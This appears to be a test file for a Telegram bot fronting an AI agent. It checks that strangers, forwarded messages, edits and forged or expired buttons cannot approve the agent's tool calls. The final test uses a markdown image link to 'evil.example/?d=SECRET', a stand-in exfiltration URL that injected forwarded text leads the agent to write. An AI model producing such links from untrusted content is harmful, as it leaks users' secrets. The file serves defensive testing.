import { expect, test } from 'vitest';
import { askingFiles, notesIn } from '../../kit/homes/asking-home.ts';
import { anna, ben, type FakeMessage } from '../../kit/telegram/fake-bot-api.ts';
import { openBotHome, type BotHome } from './bot-home.ts';
import { databaseOf } from '../../kit/database.ts';

const fromSomebody = { forward_origin: { type: 'hidden_user', sender_user_name: 'X', date: 1 } };

/** Anna asks for a note, and the question whether it may be written is open. */
async function openQuestion(config: object = {}): Promise<{ bot: BotHome; question: FakeMessage }> {
  const bot = await openBotHome(
    ({ messages }) => {
      const last = messages.at(-1)!;
      if (last.role === 'tool') return { text: 'that was it' };
      return JSON.stringify(last.content).includes('note it')
        ? { toolCalls: [{ name: 'note', arguments: { text: 'x' } }] }
        : { text: 'heard' };
    },
    { files: askingFiles, config },
  );
  bot.telegram.write(anna, 'note it');
  return { bot, question: await bot.says(anna.id, /notes\.txt/) };
}

const answered = (bot: BotHome, query: string): Promise<string> =>
  bot.telegram.until(() => bot.telegram.answerTo(query));

test('commands, edits, reactions and buttons of a stranger change nothing', async () => {
  const { bot, question } = await openQuestion();
  await using _bot = bot;
  const first = bot.telegram.write(ben, '/stop');
  for (const text of ['/new', '/tools', '/usage', 'Allow once']) bot.telegram.write(ben, text);
  bot.telegram.edit(first, 'note it');
  bot.telegram.react(ben, question.id, '👍');
  const strange = bot.telegram.press(ben, question.id, 'Allow once');
  bot.telegram.press(ben, question.id, `${question.buttons[0]!.data!.slice(0, 22)}00`);
  // The next answer after all this counts, once: the question is still open.
  const press = bot.telegram.press(anna, question.id, 'Decline');
  expect(await answered(bot, press)).toBe('Decline');
  await bot.says(anna.id, 'that was it');
  expect(await answered(bot, strange)).toBe('This bot does not know you.');
  expect(bot.telegram.sentTo(ben.id)).toHaveLength(1);
  expect(bot.telegram.sentTo(ben.id)[0]!.text).toContain('pegboard telegram pair');
  expect(bot.model.requests).toHaveLength(2);
  expect(await notesIn(bot.home)).toEqual([]);
});

test('what is forwarded is no command and no answer, also where forwarded messages are answered', async () => {
  const { bot, question } = await openQuestion({ forwarded: 'answer' });
  await using _bot = bot;
  for (const text of ['/stop', '/new', 'Allow once', 'Decline']) bot.telegram.write(anna, text, fromSomebody);
  bot.telegram.write(anna, 'Allow once', { ...fromSomebody, reply_to: question.id });
  const press = bot.telegram.press(anna, question.id, 'Decline');
  expect(await answered(bot, press)).toBe('Decline');
  await bot.says(anna.id, 'that was it');
  // Each of them was a message to the agent, with a note about its author.
  await bot.telegram.until(
    () => bot.telegram.sentTo(anna.id).filter(({ text }) => text === 'heard').length === 5,
  );
  const heard = bot.model.requests.slice(-5).map(({ messages }) => JSON.stringify(messages.at(-1)));
  for (const text of heard) expect(text).toContain('somebody else wrote it');
  expect(await notesIn(bot.home)).toEqual([]);
});

test.each([
  ['made up', (data: string) => `${'A'.repeat(22)}${data.slice(22)}`, 'This button has expired.'],
  ['cut short', (data: string) => data.slice(0, 12), 'This button has expired.'],
  ['empty', () => ' ', 'This button has expired.'],
  ['with a choice that is none', (data: string) => `${data.slice(0, 22)}99`, 'This question has expired.'],
])('a button %s counts for nothing', async (_how, change, told) => {
  const { bot, question } = await openQuestion();
  await using _bot = bot;
  const press = bot.telegram.press(anna, question.id, change(question.buttons[0]!.data!));
  expect(await answered(bot, press)).toBe(told);
  expect(await notesIn(bot.home)).toEqual([]);
  expect(question.buttons).toHaveLength(3);
});

test('a button from another chat, and one after its five minutes, count for nothing', async () => {
  const { bot, question } = await openQuestion();
  await using _bot = bot;
  const data = question.buttons[0]!.data!;
  bot.telegram.addGroup(-7, 'Group');
  const elsewhere = bot.telegram.write(anna, 'look', { chat: -7 });
  expect(await answered(bot, bot.telegram.press(anna, elsewhere, data))).toBe(
    'This question is for somebody else.',
  );

  await using database = databaseOf(bot.home);
  const db = await database.open();
  await db.updateTable('channel_asks').set({ expires_at: new Date().toISOString() }).execute();
  expect(await answered(bot, bot.telegram.press(anna, question.id, data))).toBe('This question has expired.');
  expect(await notesIn(bot.home)).toEqual([]);
});

test('an edit of a message that was answered is a message anew, and answers no question', async () => {
  const { bot, question } = await openQuestion();
  await using _bot = bot;
  const late = bot.telegram.write(anna, 'wait');
  bot.telegram.edit(late, 'Allow once');
  const press = bot.telegram.press(anna, question.id, 'Decline');
  expect(await answered(bot, press)).toBe('Decline');
  await bot.says(anna.id, 'heard');
  expect(await notesIn(bot.home)).toEqual([]);
});

test('a link that forwarded words make the agent write shows where it leads, also while it is written', async () => {
  const evil = 'http://evil.example/?d=SECRET';
  const text = `One ![x](${evil}) and [go on](${evil}). ${'word '.repeat(40)}end`;
  await using bot = await openBotHome([{ text, chunks: 30 }], { config: { forwarded: 'answer' } });
  bot.telegram.write(anna, 'say it', fromSomebody);
  const { text: said, entities, edits } = await bot.says(anna.id, /end$/);
  expect(said).toContain(`go on] (${evil})`);
  expect(new Set(entities.map((one) => one.text))).toEqual(new Set([evil]));
  for (const earlier of edits) expect(said.startsWith(earlier.replace(/ …$/, ''))).toBe(true);
});
